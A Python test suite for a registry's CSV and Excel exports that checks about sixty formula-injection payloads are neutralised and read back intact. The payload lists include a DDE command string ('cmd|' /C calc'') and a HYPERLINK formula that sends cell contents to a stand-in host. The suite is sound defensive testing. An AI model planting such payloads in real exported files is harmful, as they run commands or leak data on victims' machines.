"""No cell is a formula: sixty payloads through both tables, by rule and as a spreadsheet opens them."""

import csv
import io
import re
import shutil
import subprocess
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given

from registry.exports import cells, listings_csv, listings_xlsx
from tests.registry.exports.making import EDITION, TEXT, listing

STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "|", "%", "−")
HIDDEN = ("", " ", "\t", "\n", "\r", "\u00a0", "\u200b", "\ufeff", "'", '"', "a;", "a\t")
COMMANDS = ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x.example/?"&A1,"open")', "IMPORTXML(A1)", "SUM(1)*2")
PAYLOADS = [
    *(f"{start}{COMMANDS[place % len(COMMANDS)]}" for place, start in enumerate(STARTS)),
    *(f"{hidden}={COMMANDS[place % len(COMMANDS)]}" for place, hidden in enumerate(HIDDEN)),
    *(f"{hidden}＠{COMMANDS[place % len(COMMANDS)]}" for place, hidden in enumerate(HIDDEN)),
    *(f'x{cut}{start}1+1"' for cut in (";", "\t", "\n", "\r\n") for start in STARTS[:6]),
]
TYPED = [*PAYLOADS, "#N/A", "#REF!", "0012", "1e5", "2001-02-03", "TRUE", "5%"]
"""With texts that a spreadsheet would take for errors, numbers and dates."""

STARTS_A_FORMULA = re.compile(r"^[\s\"“”\u200b\ufeff]*[=+\-@＝＋－＠﹦﹢﹣﹫|%−]")


def rows_of(*texts: str) -> bytes:
    many = [{"text": text, "kind": "ALIAS"} for text in texts]
    record = listing(name=texts[0], own_reference=texts[-1], names=many, note=texts[0])
    return b"".join(listings_csv.write([record], EDITION))


def test_there_are_sixty() -> None:
    assert len(set(PAYLOADS)) >= 60


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_of_the_csv_begins_as_a_formula_and_none_where_another_separator_would_cut_it(payload: str) -> None:
    text = rows_of(payload, "harmless", payload).decode("utf-8-sig")
    for delimiter in (",", ";", "\t"):
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            for cell in row:
                assert not STARTS_A_FORMULA.match(cell), (delimiter, cell)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_is_made_harmless_can_be_read_back(payload: str) -> None:
    assert cells.plain(cells.neutral(payload)) == payload
    assert cells.neutral(payload) != payload


def test_harmless_text_stays_as_it_is() -> None:
    for text in (
        "Jean-Paul",
        "a=b",
        "1-2",
        "x@example.org",
        "O'Neil",
        "'quoted'",
        "al-Ḥasan",
        "العربية",
        "Smith; Jones",
    ):
        assert cells.neutral(text) == text


@given(TEXT)
def test_any_text_comes_back(text: str) -> None:
    assert cells.plain(cells.neutral(text)) == text
    assert cells.parted(cells.joined([text, "second", text])) == [text, "second", text]


def test_without_the_rule_a_formula_gets_through(monkeypatch: pytest.MonkeyPatch) -> None:
    """The twin."""
    monkeypatch.setattr(cells, "neutral", lambda text: text)
    row = next(iter(csv.DictReader(io.StringIO(rows_of("=1+1").decode("utf-8-sig")))))
    assert STARTS_A_FORMULA.match(row["note"])


def test_every_cell_of_the_workbook_is_a_text_and_exactly_the_published_one(tmp_path: Path) -> None:
    records = [listing(f"L{place:06d}", name=text, own_reference=text) for place, text in enumerate(TYPED, start=1)]
    place = tmp_path / "listings.xlsx"
    place.write_bytes(b"".join(listings_xlsx.write(records, EDITION)))
    book = openpyxl.load_workbook(place)
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type in {"s", "inlineStr", "n"}, cell.coordinate
                assert cell.value is None or cell.data_type != "n", cell.coordinate
    column = next(cell.column for cell in book["listings"][1] if cell.value == "name")
    read = [row[column - 1].value for row in book["listings"].iter_rows(min_row=2)]
    assert read == TYPED


@pytest.mark.skipif(not shutil.which("soffice"), reason="no LibreOffice here")
def test_libreoffice_makes_no_formula_of_any(tmp_path: Path) -> None:
    (tmp_path / "listings.csv").write_bytes(rows_of(*PAYLOADS))
    command = ["soffice", "--headless", "--convert-to", "xlsx", "--outdir", str(tmp_path), "listings.csv"]
    subprocess.run(command, cwd=tmp_path, check=True, timeout=120)
    for row in openpyxl.load_workbook(tmp_path / "listings.xlsx").worksheets[0].iter_rows():
        assert [cell.coordinate for cell in row if cell.data_type == "f"] == []
